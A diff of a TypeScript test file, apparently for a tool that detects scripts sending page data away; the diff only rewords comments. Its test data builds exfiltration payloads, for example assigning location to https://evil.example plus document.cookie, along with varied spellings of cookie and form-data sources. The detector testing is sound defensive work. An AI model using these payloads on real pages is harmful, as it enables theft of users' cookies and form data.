@@ -1,16 +1,16 @@
-/** What scripts send away, as far as reading their tokens shows it: sources, sinks and ways to spell them. */
+/** The data that scripts send, as far as their tokens show it: sources, sinks and ways to spell them. */
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import fc from 'fast-check';
 import { type Sending, scriptOfUrl, sendingIn } from '../../../src/payload/script-sends.ts';
 import { atOnce } from '../../../src/turns.ts';
 
-/** As a page's own script. */
+/** Sent by a page's own script. */
 const sentBy = (text: string, isHandler = false): Sending | null =>
   atOnce(sendingIn([{ text, isHandler }], ''));
 const server = 'https://evil.example';
 
-/** What a page holds, by its name, in the ways to write it. */
+/** The data of a page, by its name, in all ways to write it. */
 const sources: Record<string, readonly string[]> = {
   'document.cookie': [
     'document.cookie',
@@ -48,7 +48,7 @@ const sources: Record<string, readonly string[]> = {
   FormData: ['new FormData(document.forms[0])', 'new URLSearchParams(new FormData(f))'],
 };
 
-/** Requests with something in them, by what sends them. */
+/** Requests with some data in them, by the function that sends them. */
 const sinks: Record<string, readonly ((what: string) => string)[]> = {
   location: [
     (what) => `location="${server}/"+${what}`,
@@ -109,7 +109,7 @@ test('every source in every request', () => {
     for (const what of spellings) {
       for (const [by, makers] of Object.entries(sinks)) {
         for (const make of makers) {
-          // A statement in quotes holds no others.
+          // A statement in a string has no nested strings.
           const text = make(what);
           const sent = sentBy(text);
           count++;
@@ -124,7 +124,7 @@ test('every source in every request', () => {
 
 const sentAs = (source: string, by: string): Sending => ({ source, by, to: server, isDirect: true });
 
-/** The tokens of the example, with what may stand between them. */
+/** The tokens of the example, and the text that may be between them. */
 const tokens = ['location', '=', '"https://evil.example/"', '+', 'document', '.', 'cookie'];
 const gap = fc.constantFrom(
   '',
@@ -252,7 +252,7 @@ test('where an address leads', () => {
   assert.equal(servers(null, "' ht\\ttps://evil.example/?'"), 'https://evil.example');
   assert.equal(servers(null, "'https://evil.'"), 'https://evil.…');
   assert.equal(servers('', "'//evil.example/'"), '//evil.example');
-  // A data: URL is no base.
+  // A data: URL cannot be a base.
   assert.equal(servers(null, "'//evil.example/'"), undefined);
   assert.equal(servers('', "'/a?'"), undefined);
   assert.equal(servers('https://evil.example/a', "'/a?'"), 'https://evil.example');
